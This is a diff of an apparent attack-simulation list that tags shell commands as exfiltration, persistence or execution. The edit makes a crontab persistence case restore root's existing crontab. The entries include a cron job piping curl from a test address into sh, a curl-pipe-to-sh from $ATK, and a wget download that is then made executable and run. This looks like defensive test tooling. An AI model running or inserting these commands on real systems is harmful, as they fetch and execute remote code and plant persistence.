@@ -248,7 +248,10 @@ ATTACKS = [
      "> /dev/null || true; done",
      "exfiltration", None),
     ("crontab_pipe", ("crontab",),
-     "echo '*/5 * * * * curl -s http://198.18.0.2/c | sh' | crontab - && crontab -r",
+     # root's own crontab, if any, is put back
+     "crontab -l > saved 2>/dev/null || true; "
+     "echo '*/5 * * * * curl -s http://198.18.0.2/c | sh' | crontab -; "
+     "if [ -s saved ]; then crontab saved; else crontab -r; fi",
      "persistence", None),
     ("curl_pipe_sh", ("curl",), "curl -sSf $ATK/run.sh | sh", "execution", None),
     ("wget_chmod_exec", ("wget",), "wget -q -O upd $ATK/tool && chmod +x upd && ./upd",
